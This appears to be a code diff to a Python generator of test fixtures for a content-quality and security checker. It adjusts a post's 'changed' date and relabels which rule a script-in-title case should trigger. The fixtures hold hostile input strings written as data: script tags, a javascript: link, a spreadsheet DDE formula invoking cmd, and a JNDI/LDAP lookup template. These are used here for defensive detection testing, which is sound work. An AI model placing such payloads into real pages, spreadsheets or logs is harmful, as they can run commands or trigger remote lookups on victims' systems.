@@ -277,6 +277,8 @@ def story(title, subject, **more):
     post = {"title": title, "blocks": blocks, "excerpt": summary(subject), "categories": [dice.pick(used_categories)],
             "tags": dice.sample(used_tags, 2), "thumb": photos[(next_post + 3) % len(photos)]["id"], "days": days, "changed": days - dice.below(20)}
     post.update(more)
+    if "days" in more and "changed" not in more:
+        post["changed"] = more["days"]
     return post
 
 
@@ -439,7 +441,7 @@ defect("hostile_script_in_body", "security.script-in-content", p)
 p = with_block("Tides for the week", "the week's tides", para('See <a href="javascript:window.museum=2">the tables of tides</a>.'))
 defect("hostile_javascript_link", "security.script-in-content", p)
 for kind, title, check in [
-    ("hostile_script_in_title", "<script>window.museum=3</script>Guided tours", "security.injection-payload"),
+    ("hostile_script_in_title", "<script>window.museum=3</script>Guided tours", "security.script-in-content"),
     ("hostile_formula_title", "=cmd|' /C calc'!A0", "security.injection-payload"),
     ("hostile_template_title", "{{7*7}} ${jndi:ldap://example.org/a}", "security.injection-payload"),
     ("hostile_terminal_title", "\u009b31mRed tide\u009b0m", "quality.invisible-characters"),
